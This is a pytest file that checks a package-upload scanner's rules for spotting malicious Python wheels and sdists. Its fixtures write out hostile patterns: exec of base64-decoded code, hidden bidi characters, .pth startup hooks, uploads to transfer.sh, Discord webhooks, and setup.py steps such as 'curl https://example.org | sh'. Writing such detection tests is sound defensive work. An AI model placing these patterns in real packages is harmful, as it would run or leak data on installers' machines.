"""Each rule: what makes it fire, and what must not."""

from __future__ import annotations

import base64

import pytest

from moderation import rules
from moderation.scanning import SEVERITIES, of_archive, shown
from packages.uploads.signals import LONGEST_EXCERPT
from tests.factories.dists import make_sdist, make_wheel

PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(100)
ELF = b"\x7fELF\x02\x01\x01" + bytes(60)
MACH_O = b"\xcf\xfa\xed\xfe" + bytes(60)
BLOB = base64.b64encode(bytes(range(256)) * 2).decode()

# rule, path, content
IN_WHEELS = [
    ("runs_what_it_decodes", "demo/a.py", "exec(base64.b64decode('cHJpbnQoMSk='))"),
    ("runs_what_it_decodes", "demo/a.py", "exec(compile(zlib.decompress(x), '', 'exec'))"),
    ("runs_what_it_decodes", "evil.pth", "import os; exec(bytes.fromhex('00'))"),
    ("runs_characters_put_together", "demo/a.py", "exec(''.join(map(chr, [112, 114])))"),
    ("runs_characters_put_together", "demo/a.py", "eval(bytes([112, 114]))"),
    ("runs_characters_put_together", "demo/a.py", "exec(')1(tnirp'[::-1])"),
    ("runs_a_long_blob", "demo/a.py", f"x = '{BLOB}'\ny = b64decode(x)\nexec(y)"),
    ("runs_its_own_documentation", "demo/a.py", "exec(__doc__)"),
    ("loads_compiled_code", "demo/a.py", "exec(marshal.loads(b'\\xe3'))"),
    ("code_far_to_the_right", "demo/a.py", "import os" + " " * 200 + ";exec(x)"),
    ("invisible_data", "demo/a.py", "x = '" + "\ufe01\U000e0101" * 8 + "'"),
    ("invisible_data", "demo/a.py", "x = '" + "\u200b\u200c" * 8 + "'"),
    ("turns_the_direction", "demo/a.py", "admin = 'user\u202e \u2066# check\u2069 \u2066'"),
    ("imports_by_a_coded_name", "demo/a.py", "__import__(b64decode('b3M=').decode())"),
    ("armoured", "demo/a.py", "from pytransform.pyarmor_runtime_000 import __pyarmor__"),
    ("paste_site", "demo/a.py", "get('https://pastebin.com/raw/abcd1234')"),
    ("throw_away_files", "demo/a.py", "post('https://transfer.sh/x', data)"),
    ("webhook", "demo/a.py", f"x = 'https://discord.com/api/webhooks/{'1' * 18}/{'a' * 60}'"),
    ("webhook", "demo/a.py", f"x = 'https://api.telegram.org/bot123456789:{'A' * 35}/send'"),
    ("catches_requests", "demo/a.py", "get('https://abcdef.m.pipedream.net')"),
    ("tunnel", "demo/a.py", "connect('tcp.eu.ngrok.io')\nget('https://abcd.ngrok-free.app/')"),
    ("bare_address", "demo/a.py", "get('http://45.9.148.10/x')"),
    ("shortened", "demo/run.sh", "curl https://bit.ly/2abc | sh"),
    ("startup_hook", "evil.pth", "import evil\n"),
    ("startup_hook", "sitecustomize.py", "print(1)\n"),
    ("windows_program", "demo/readme.txt", PE),
    ("elf_program", "demo/data.png", ELF),
    ("mach_o_program", "demo/tool", MACH_O),
]
AT_BUILD = [
    ("build_uses_the_network", "setup.py", "urllib.request.urlopen('https://example.org/x')"),
    ("build_runs_a_downloader", "setup.py", "os.system('curl https://example.org | sh')"),
    ("build_starts_processes", "setup.py", "subprocess.run(['git', 'describe'])"),
    ("build_runs_what_lies_aside", "setup.py", "exec(open('tests/x.py').read())"),
    ("takes_over_the_installation", "setup.py", "class Evil(install):\n    pass\n"),
    ("names_its_own_commands", "setup.py", "setup(cmdclass={'egg_info': Evil})"),
    ("backend_in_tree", "*/pyproject.toml", "[build-system]\nrequires=[]\nbackend-path=['.']\n"),
]
INNOCENT = [
    ("demo/a.py", "exec(code, namespace)\nvalue = eval('1 + 1')\n"),
    ("demo/a.py", f"KEY = '{BLOB}'\ndata = b64decode(KEY)\n"),
    ("demo/a.py", "doc = eval(name).__doc__\n"),
    ("demo/a.py", "# see https://bit.ly/2abc\nx = 1  # http://45.9.148.10/x\n"),
    ("demo/a.py", '"""Read http://tinyurl.com/nndsvd.\n\nAnd https://bit.ly/2abc."""\n'),
    (
        "demo/a.py",
        "get('http://127.0.0.1:8000/')\nget('http://10.0.0.1/')\nget('http://999.1.1.1/')",
    ),
    ("demo/a.py", "x = 'https://discord.com/api/webhooks/<id>/<token>'\n"),
    ("demo/model.pth", "weights"),
    ("demo/a.py", "x = '❤️ fine️'\n"),
    ("demo/a.txt", "exec(base64.b64decode('cHJpbnQoMSk='))"),
    ("demo/MZ.txt", b"MZ is how programs begin"),
]


def fired(path, floor="low"):
    scan = of_archive(path, path.name)
    assert scan.complete
    least = SEVERITIES.index(floor)
    return {each.rule for each in scan.found if SEVERITIES.index(each.severity) >= least}


@pytest.mark.parametrize(("rule", "member", "content"), IN_WHEELS)
def test_a_wheel_makes_the_rule_fire(tmp_path, rule, member, content):
    assert rule in fired(make_wheel(tmp_path, files={member: content}), "medium")


@pytest.mark.parametrize(("rule", "member", "content"), AT_BUILD)
def test_what_a_build_runs_makes_the_rule_fire(tmp_path, rule, member, content):
    how = {"replace": {member: content}} if "*" in member else {"files": {member: content}}
    path = make_sdist(tmp_path, **how)
    assert rule in fired(path)


@pytest.mark.parametrize(("rule", "member", "content"), AT_BUILD[:-1])
def test_the_same_in_an_installed_module_is_nothing(tmp_path, rule, member, content):
    assert rule not in fired(make_wheel(tmp_path, files={f"demo/{member}": content}))


@pytest.mark.parametrize(("member", "content"), INNOCENT)
def test_what_is_ordinary_makes_no_rule_fire(tmp_path, member, content):
    assert not fired(make_wheel(tmp_path, files={member: content}))


def test_every_rule_has_what_people_and_policies_need():
    policies = {"obfuscated-code", "suspicious-urls", "setup-calls", "install-hooks"}
    policies |= {"embedded-executables"}
    sources = [path.read_text() for path in rules.FOLDER.glob("*.yar")]
    texts = [part for source in sources for part in source.split("\nrule ")[1:]]
    for text in texts:
        name = text.split()[0]
        assert any(f'policy = "{policy}"' in text for policy in policies), name
        assert any(f'severity = "{severity}"' in text for severity in SEVERITIES), name
        assert 'sentence = "' in text, name
        assert any(name == rule for rule, *_ in [*IN_WHEELS, *AT_BUILD]), f"{name} is not tested"


def test_a_signal_names_member_line_and_an_excerpt_that_can_be_shown(tmp_path):
    text = "import os\n\n" + "x = 1;" * 100 + "exec(b64decode('\u202e'))" + ";y = 1" * 100
    path = make_wheel(tmp_path, files={"demo/a.py": text})
    found = next(
        each for each in of_archive(path, path.name).found if each.rule == "runs_what_it_decodes"
    )
    assert (found.member, found.line, found.severity) == ("demo/a.py", 3, "high")
    assert "exec(b64decode('⟨U+202E⟩'))" in found.excerpt
    assert len(found.excerpt) <= LONGEST_EXCERPT


def test_tests_and_examples_beside_the_code_weigh_little(tmp_path):
    evil = "exec(base64.b64decode('cHJpbnQoMSk='))"
    path = make_sdist(tmp_path, files={"tests/a.py": evil})
    assert {each.severity for each in of_archive(path, path.name).found} == {"low"}
    inside = make_sdist(tmp_path / "b", files={"demo/tests/a.py": evil})
    assert {each.severity for each in of_archive(inside, inside.name).found} == {"high"}


def test_libraries_and_programs_belong_into_wheels_for_a_platform(tmp_path):
    files = {"demo/a.so": ELF, "demo/bin/tool": ELF, "demo/tool.exe": PE}
    path = make_wheel(tmp_path, tag="cp312-cp312-linux_x86_64", files=files)
    assert not fired(path)
    assert fired(make_wheel(tmp_path / "pure", files=files), "medium") == {
        "elf_program",
        "windows_program",
    }
    disguised = make_wheel(tmp_path / "b", tag="cp312-cp312-win32", files={"demo/a.txt": ELF})
    assert fired(disguised, "high") == {"elf_program"}


def test_no_time_means_unseen_and_not_clean(tmp_path):
    path = make_wheel(tmp_path, files={"demo/a.py": "x = 1\n"})
    scan = of_archive(path, path.name, budget=0)
    assert "demo/a.py" in scan.unseen
    assert not scan.complete


def test_a_text_beyond_all_measure_is_not_seen_whole(tmp_path):
    path = make_wheel(tmp_path, files={"demo/a.py": "x = 1\n" * 800_000})
    assert of_archive(path, path.name).unseen == ["demo/a.py"]


def test_one_rule_does_not_flood_the_desk_and_nothing_is_lost(tmp_path):
    lines = "".join(f"exec(b64decode(x{n}))\n" for n in range(500))
    path = make_wheel(tmp_path, files={"demo/a.py": lines})
    found = of_archive(path, path.name).found
    assert (len(found), len(shown(found))) == (500, 10)


def test_a_broken_archive_is_not_seen(tmp_path):
    path = make_sdist(tmp_path)
    path.write_bytes(path.read_bytes()[:-30])
    assert not of_archive(path, path.name).complete
